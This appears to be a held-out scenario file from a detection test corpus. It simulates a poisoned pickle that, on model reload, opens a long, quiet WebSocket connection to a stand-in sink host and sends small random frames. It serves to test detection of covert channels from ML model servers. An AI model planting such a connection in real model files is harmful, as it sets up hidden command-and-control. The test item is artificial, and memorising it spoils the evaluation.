"""
id: V10
name: upgraded-connection
class: quiet
set: held-out
phase: reload
trigger: model
evidence: [network, dns]
techniques: [T1204.002, T1071.001, T1573, AML.T0011.000, AML.T0072]
servers: [fastapi, bentoml, triton]
seconds: 120
what: >
  A pickle opens one connection to a name nobody asked for, asks for a web socket, and keeps it for a minute and a half with
  a few bytes to and fro: one connection, long and nearly silent.
"""

import base64
import socket

from corpus import tls

SECONDS = 90


def payload(world):
    key = base64.b64encode(world.random.randbytes(16)).decode()
    head = f"GET /{world.word()} HTTP/1.1\r\nHost: {world.sink_name}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    with socket.create_connection((world.sink_name, world.sink_port()), timeout=5) as peer:
        peer.sendall(f"{head}Sec-WebSocket-Key: {key}\r\n\r\n".encode())
        tls.take(peer)
        left = SECONDS
        while left > 0:
            pause = world.random.uniform(6, 14)
            world.sleep(pause)
            left -= pause
            # A frame of binary data, masked as a client's are.
            data = world.random.randbytes(world.random.randint(8, 60))
            peer.sendall(bytes([0x82, 0x80 | len(data)]) + world.random.randbytes(4) + data)
            tls.take(peer)
